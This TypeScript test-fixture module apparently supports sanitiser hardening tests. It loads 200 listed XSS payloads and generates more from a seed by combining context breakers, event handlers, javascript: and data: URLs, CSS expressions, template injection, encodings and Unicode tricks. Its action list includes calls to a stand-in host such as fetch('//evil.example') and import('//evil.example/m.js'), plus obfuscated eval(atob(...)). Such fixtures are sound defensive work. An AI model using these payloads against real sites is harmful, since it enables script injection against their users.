/**
 * XSS payloads: the 200 of test/fixtures/hardening/xss-payloads.txt (script tags, event
 * handlers, javascript: and data: URLs, CSS expressions, template injection, entity and
 * percent encodings, full-width and invisible Unicode tricks, CSV formula injection), and
 * generated ones that combine context breakers, elements, handlers, actions and encodings
 * from a seed. Each generated payload carries a marker ("xss-<n>") in its attribute or
 * script, so a test can tell whether any element or attribute came from one.
 */
import { readFileSync } from 'node:fs';
import { pick, seededRandom } from './seeded-random.js';

/** The 200 payloads of the fixture list, one per line. */
export function listedPayloads(): string[] {
  const text = readFileSync(new URL('../../fixtures/hardening/xss-payloads.txt', import.meta.url), 'utf8');
  return text.split('\n').filter((line) => line.length > 0);
}

const BREAKERS = ['', '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '*/', '`', '\\">', '</noscript>', '</li>', '</p></div>'];
const ELEMENTS = ['img src=x', 'svg', 'body', 'iframe', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'marquee', 'object data=x', 'embed src=x', 'a href=#', 'div', 'math', 'select autofocus', 'textarea autofocus', 'x', 'frameset', 'image src=x', 'style'];
const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerenter', 'onstart', 'onbeforeprint', 'onauxclick'];
const ACTIONS = [
  'alert(1)', 'alert`1`', 'prompt(1)', 'confirm(document.domain)', "fetch('//evil.example')", "import('//evil.example/m.js')", "eval(atob('YWxlcnQoMSk='))",
  "top['al'+'ert'](1)", 'window.__pwned=1', "location='javascript:alert(1)'", "Function('alert(1)')()", "setTimeout('alert(1)')", '(alert)(1)', 'self[`alert`](1)',
];
const URL_SCHEMES = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\u200bscript:', 'java&#x09;script:', '&#106;avascript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,'];
const TEMPLATES = ['{{constructor.constructor("ACTION")()}}', '${ACTION}', '#{ACTION}', '<%= ACTION %>', '[[${ACTION}]]', '{{=ACTION}}', '{{{ACTION}}}'];
const UNICODE = ['\u202e', '\u200b', '\u200d', '\ufeff', '\u2028', 'ſ', 'İ', '\uff1c', '\uff1e', '\ud83d\ude00', 'e\u0301', '\u00a0'];

type Shape = (r: () => number, marker: string) => string;

const one = <T>(r: () => number, list: readonly T[]): T => list[pick(r, list.length)]!;

const SHAPES: readonly Shape[] = [
  // A context breaker, then an element with an event handler.
  (r, m) => `${one(r, BREAKERS)}<${one(r, ELEMENTS)} id=${m} ${one(r, HANDLERS)}=${one(r, ACTIONS)}>`,
  // A script element, odd casing and spacing.
  (r, m) => `${one(r, BREAKERS)}<${one(r, ['script', 'SCRIPT', 'ScRiPt', 'script type=module', 'script/x'])} id=${m}>${one(r, ACTIONS)}</script>`,
  // A link or frame pointing at a script URL.
  (r, m) => `<${one(r, ['a href', 'iframe src', 'form action', 'object data', 'embed src', 'base href', 'img src'])}="${one(r, URL_SCHEMES)}${one(r, ACTIONS)}" id=${m}>Call us</a>`,
  // CSS that runs code or loads from elsewhere.
  (r, m) => `<div id=${m} style="${one(r, ['width:expression(ACTION)', 'background:url(javascript:ACTION)', 'behavior:url(x.htc)', '-moz-binding:url(//evil.example)', 'background-image:url("javascript:ACTION")']).replace('ACTION', one(r, ACTIONS))}">`,
  // Template injection for client-side frameworks.
  (r, m) => `${one(r, TEMPLATES).replace('ACTION', one(r, ACTIONS))} ${m}`,
  // Entity- or percent-encoded markup, which must stay text.
  (r, m) => {
    const markup = `<img src=x id=${m} onerror=${one(r, ACTIONS)}>`;
    const enc = one(r, ['entity', 'hex', 'percent', 'unicode-escape', 'double']);
    if (enc === 'entity') return markup.replace(/</g, '&lt;').replace(/>/g, '&gt;');
    if (enc === 'hex') return markup.replace(/[<>"']/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`);
    if (enc === 'percent') return encodeURIComponent(markup);
    if (enc === 'unicode-escape') return markup.replace(/[<>]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`);
    return markup.replace(/</g, '&amp;lt;').replace(/>/g, '&amp;gt;');
  },
  // Invisible and look-alike characters spliced into markup.
  (r, m) => {
    const markup = `<${one(r, ['script', 'img src=x onerror=alert(1)', 'svg onload=alert(1)'])} id=${m}>`;
    const at = 1 + pick(r, markup.length - 1);
    return markup.slice(0, at) + one(r, UNICODE) + markup.slice(at);
  },
  // Text that looks like a promise with markup hidden in it.
  (r, m) => `We reply within ${1 + pick(r, 9)} working days${one(r, BREAKERS)}<${one(r, ELEMENTS)} id=${m} ${one(r, HANDLERS)}=${one(r, ACTIONS)}>`,
];

/** `count` generated payloads from `seed`; payload n carries the marker `xss-<n>`. */
export function generatedPayloads(count: number, seed: number): string[] {
  const random = seededRandom(seed);
  const out: string[] = [];
  for (let n = 1; n <= count; n++) out.push(one(random, SHAPES)(random, `xss-${n}`));
  return out;
}
